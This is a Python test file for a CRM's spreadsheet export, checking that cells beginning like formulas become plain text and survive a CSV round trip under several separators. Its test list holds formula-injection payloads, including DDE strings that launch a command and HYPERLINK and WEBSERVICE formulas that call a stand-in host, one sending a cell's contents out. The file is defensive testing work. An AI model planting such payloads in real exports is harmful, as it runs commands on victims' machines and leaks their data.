"""Cells are text for every spreadsheet, whichever separator it splits by, and come back as they were."""

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from crm.core.cells import SIGNS, as_text, from_text, write_rows

SPLITTING = (",", ";", "\t", "|")
DOING = re.compile(r"[=+\-@＝＋－＠][^,;\t\r\n]*[(|!（｜！]")

HOSTILE = [
    "=cmd|' /C calc'!A0",
    "+90 532 111 22 33",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    " =1+1",
    "\xa0=1+1",
    "＝1+1",
    "＋90",
    "－1",
    "＠SUM(1)",
    "'=1+1",
    "''=1+1",
    'Ali;=HYPERLINK("http://kotu.example";"tıkla")',
    'Ali,=WEBSERVICE("http://kotu.example/"&A1)',
    'Ali\t"=cmd|calc!A1',
    'Ali\n=IMPORTXML("x","y")',
    "Ali;'=1+cmd|calc!A1",
]


@pytest.mark.parametrize("cell", HOSTILE)
def test_what_begins_like_a_formula_is_text_and_comes_back(cell: str) -> None:
    assert _formulas(as_text(cell)) == []
    assert from_text(as_text(cell)) == cell


@pytest.mark.parametrize(
    "cell",
    ["Işıl Çelik", "0532 111 22 33", "Arayın: 0532, +90 533; -5 derece", "a@b.co", "", "'", "d'Arc", "C, -F", "3-5"],
)
def test_what_people_write_stays_as_it_is(cell: str) -> None:
    assert as_text(cell) == cell
    assert from_text(cell) == cell


@given(st.text(alphabet=st.sampled_from([*SIGNS, *"',;|\"(!a9"]), max_size=30) | st.text(max_size=30))
def test_any_text_is_no_formula_and_comes_back(cell: str) -> None:
    assert _formulas(as_text(cell)) == []
    assert from_text(as_text(cell)) == cell


@given(st.lists(st.lists(st.text(max_size=12), min_size=1, max_size=4), max_size=4), st.sampled_from(",;\t"))
def test_rows_come_back_as_they_were(rows: list[list[str]], delimiter: str) -> None:
    written = io.StringIO(newline="")
    write_rows(written, rows, delimiter=delimiter)
    written.seek(0)
    read = [[from_text(cell) for cell in row] for row in csv.reader(written, delimiter=delimiter)]
    assert read == rows


def _formulas(written: str) -> list[str]:
    """What a spreadsheet would take for a formula: the cell, or, where it splits by another separator, a part that can do
    something.
    """
    parts = re.split("|".join(map(re.escape, (*SPLITTING, "\r", "\n"))), written)
    doing = [part for part in parts[1:] if DOING.match(part.lstrip(' \xa0"'))]
    return [*([written] if written[:1] and written[0] in SIGNS else []), *doing]
